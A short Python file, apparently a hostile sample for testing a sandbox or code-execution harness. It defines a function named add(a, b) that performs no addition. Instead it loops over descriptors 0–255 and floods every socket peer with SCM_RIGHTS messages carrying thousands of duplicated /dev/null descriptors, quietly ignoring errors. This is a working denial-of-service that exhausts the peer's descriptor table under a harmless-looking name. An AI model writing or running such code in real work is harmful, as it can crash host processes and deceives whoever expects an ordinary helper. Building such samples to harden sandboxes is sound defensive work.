"""Sends descriptors to whoever holds the other end of its sockets, to fill their tables."""

KIND = "call"
import array
import os
import socket


def add(a, b):
    null = os.open("/dev/null", os.O_RDWR)
    for fd in range(256):
        try:
            one = socket.socket(fileno=os.dup(fd))
            for _ in range(50):
                one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null] * 200))])
        except OSError:
            pass
